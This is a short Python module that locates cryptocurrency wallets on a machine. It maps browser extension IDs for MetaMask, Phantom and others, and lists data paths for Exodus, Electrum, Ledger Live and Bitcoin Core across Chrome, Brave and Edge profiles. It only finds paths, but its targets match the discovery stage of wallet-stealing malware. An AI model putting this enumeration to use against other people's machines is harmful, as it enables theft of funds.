"""Find locally installed wallets."""
import os
import sys
from pathlib import Path

H = Path.home()

EXTENSIONS = {
    "nkbihfbeogaeaoehlefnkodbefgpgknn": "MetaMask",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa": "Phantom",
    "hnfanknocfeofbddgcijnmhnfnkdnaad": "Coinbase Wallet",
    "acmacodkjbdgmoleebolmdjonilkdbch": "Rabby",
    "egjidjbpglichdcondbcbdnbeeppgdph": "Trust Wallet",
    "fhbohimaelbohpjbbldcngcnapndodjp": "Binance Wallet",
}

DESKTOP = {
    "Exodus": ["Exodus/exodus.wallet", ".config/Exodus/exodus.wallet"],
    "Electrum": [".electrum/wallets", "Electrum/wallets"],
    "Atomic": ["atomic/Local Storage/leveldb", ".config/atomic/Local Storage/leveldb"],
    "Ledger Live": ["Ledger Live", ".config/Ledger Live"],
    "Bitcoin Core": [".bitcoin/wallets", "Bitcoin/wallets"],
}


def _app_dirs():
    if sys.platform == "darwin":
        return [H / "Library" / "Application Support", H]
    if os.name == "nt":
        return [Path(os.environ.get("APPDATA", H)), H]
    return [H]


def _browser_profiles():
    roots = [
        "Library/Application Support/Google/Chrome", "Library/Application Support/BraveSoftware/Brave-Browser",
        ".config/google-chrome", ".config/BraveSoftware/Brave-Browser", ".config/chromium",
        "AppData/Local/Google/Chrome/User Data", "AppData/Local/Microsoft/Edge/User Data",
    ]
    for r in roots:
        base = H / r
        if base.is_dir():
            yield from (p for p in base.iterdir() if p.is_dir() and (p.name == "Default" or p.name.startswith("Profile")))


def discover():
    found = []
    for name, rels in DESKTOP.items():
        for base in _app_dirs():
            for rel in rels:
                p = base / rel
                if p.exists():
                    found.append({"wallet": name, "path": p})
    for prof in _browser_profiles():
        les = prof / "Local Extension Settings"
        for ext_id, label in EXTENSIONS.items():
            p = les / ext_id
            if p.is_dir():
                found.append({"wallet": f"{label} ({prof.name})", "path": p})
    return found
